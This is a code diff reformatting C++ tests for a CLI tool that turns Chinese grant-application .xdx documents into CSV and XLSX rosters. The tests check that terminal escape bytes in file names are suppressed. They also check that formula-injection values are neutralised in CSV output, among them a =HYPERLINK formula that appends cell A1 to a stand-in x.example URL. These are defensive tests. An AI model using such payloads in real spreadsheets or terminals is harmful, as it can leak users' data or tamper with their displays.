   EXPECT_EQ(r.exit, 2);
   for (char c : r.err + r.out) EXPECT_FALSE(static_cast<unsigned char>(c) < 0x20 && c != '\n') << int(c);
-  EXPECT_NE(r.err.find(dir.path("a\\x0Ab.xdx: 01、课题名称  未填写\\x1B[2J") + "：您选择的文档不是用本申报系统生成的\n"),
-            std::string::npos) << r.err;
+  EXPECT_NE(
+      r.err.find(dir.path("a\\x0Ab.xdx: 01、课题名称  未填写\\x1B[2J") + "：您选择的文档不是用本申报系统生成的\n"),
+      std::string::npos)
+      << r.err;
   EXPECT_EQ(std::count(r.err.begin(), r.err.end(), '\n'), 2) << r.err;  // one line per document
 
   // A key of an import is quoted short.
@@ -1196,19 +1284,20 @@ TEST(Cli, ControlBytesReachNoTerminal) {
 // amount that is a number, negative too, stays a number.
 TEST(Cli, RosterCellsAreNeverFormulas) {
   TempDir dir;
-  writeFile(dir.path("h.xdx"),
-            document("<ver>VL2011v1.0</ver><SN>-2+3</SN>"
-                     "<ProjectName>=HYPERLINK(\"http://x.example/?\"&amp;A1,\"点\")</ProjectName>"
-                     "<Presider>@SUM(1+1)</Presider><Department>\t=1+1</Department>"
-                     "<ContactMobile>+8613800000000</ContactMobile><ApplyOutlay>-5</ApplyOutlay>"
-                     "<OutlayAccounts>-1+1</OutlayAccounts>"));
+  writeFile(dir.path("h.xdx"), document("<ver>VL2011v1.0</ver><SN>-2+3</SN>"
+                                        "<ProjectName>=HYPERLINK(\"http://x.example/?\"&amp;A1,\"点\")</ProjectName>"
+                                        "<Presider>@SUM(1+1)</Presider><Department>\t=1+1</Department>"
+                                        "<ContactMobile>+8613800000000</ContactMobile><ApplyOutlay>-5</ApplyOutlay>"
+                                        "<OutlayAccounts>-1+1</OutlayAccounts>"));
   CliRun csv = cli({"roster", dir.path("h.xdx"), "--out", dir.path("r.csv")});
   EXPECT_EQ(csv.exit, 1) << csv.err;
   const std::string table = readFile(dir.path("r.csv"));
   const std::string row = table.substr(table.find("\r\n") + 2);
   EXPECT_TRUE(row.starts_with(dir.path("h.xdx") + ",problems,")) << row;
-  for (const std::string& cell : {std::string(",'-2+3,"), std::string(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点\"\")\",'@SUM(1+1),'\t=1+1,"),
-                                  std::string(",-5,'-1+1,"), std::string(",'+8613800000000,")}) {
+  for (const std::string& cell :
+       {std::string(",'-2+3,"),
+        std::string(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点\"\")\",'@SUM(1+1),'\t=1+1,"),
+        std::string(",-5,'-1+1,"), std::string(",'+8613800000000,")}) {
     SCOPED_TRACE(rowName(cell));
     EXPECT_NE(row.find(cell), std::string::npos) << cell << " in " << row;
   }
@@ -1233,7 +1322,8 @@ TEST(Cli, AWorkbookCellTooLongIsCutAndNamed) {
   writeFile(dir.path("long.xdx"), document("<ver>VL2011v1.0</ver><ProjectName>" + title + "</ProjectName>"));
   CliRun x = cli({"roster", dir.path("long.xdx"), "--out", dir.path("r.xlsx")});
   EXPECT_EQ(x.exit, 1) << x.err;  // the document's problems, no refusal
-  EXPECT_EQ(x.err, dir.path("r.xlsx") + "：单元格 F2（ProjectName）超过 32767 个字符，只写入了前 32767 个；CSV 名册保留全文\n");
+  EXPECT_EQ(x.err, dir.path("r.xlsx") +
+                       "：单元格 F2（ProjectName）超过 32767 个字符，只写入了前 32767 个；CSV 名册保留全文\n");
   SheetContent sheet = readWorkbook(dir.path("r.xlsx"));
   EXPECT_EQ(sheet.cells["F2"].value, std::string(32767, 'T'));
   CliRun csv = cli({"roster", dir.path("long.xdx"), "--out", dir.path("r.csv")});
@@ -1277,7 +1367,8 @@ TEST(Cli, TheWorkbooksTemporaryLiesBesideIt) {
   TempDir dir;
   layOut(dir, {{"sample.xdx", "a.xdx"}});
   std::filesystem::create_directories(dir.path("out"));
-  CliRun r = cli({"roster", dir.path("a.xdx"), "--out", dir.path("out/r.xlsx")}, "TMPDIR=" + dir.path("no-such-folder"));
+  CliRun r =
+      cli({"roster", dir.path("a.xdx"), "--out", dir.path("out/r.xlsx")}, "TMPDIR=" + dir.path("no-such-folder"));
   EXPECT_EQ(r.exit, 0) << r.err;
   EXPECT_EQ(readWorkbook(dir.path("out/r.xlsx")).cells["F2"].value, "区域推进中小学学习共同体建设的实践研究");
   for (const auto& e : std::filesystem::directory_iterator(dir.path("out")))
